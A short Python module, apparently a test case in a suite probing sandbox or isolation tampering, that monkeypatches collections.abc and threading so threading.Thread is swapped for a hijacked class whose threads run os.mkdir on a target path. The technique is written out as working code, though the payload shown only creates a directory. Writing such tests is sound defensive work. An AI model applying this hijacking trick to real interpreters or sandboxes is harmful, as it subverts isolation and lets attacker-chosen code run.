"""A class that the library makes is filled with what methods wrap."""
CATEGORY = "tampering"
REACH = "write"

import collections.abc
import os
import threading

from . import payload

FOUND = {name: getattr(value, "__wrapped__", value)
         for name, value in vars(threading.Thread).items()
         if name not in ("__dict__", "__weakref__")}


class Names(dict):
    def __setitem__(self, name, value):
        self.update(FOUND)


class Meta(type):
    @classmethod
    def __prepare__(cls, name, bases):
        return Names() if name == "Shelf" else {}


class Base(metaclass=Meta):
    pass


def attack():
    genuine = collections.abc.MutableMapping
    vars(collections.abc)["MutableMapping"] = Base
    import shelve
    vars(collections.abc)["MutableMapping"] = genuine
    vars(threading)["Thread"] = shelve.Shelf


def fill(thread):
    thread._target, thread._args = os.mkdir, (payload.TARGET,)
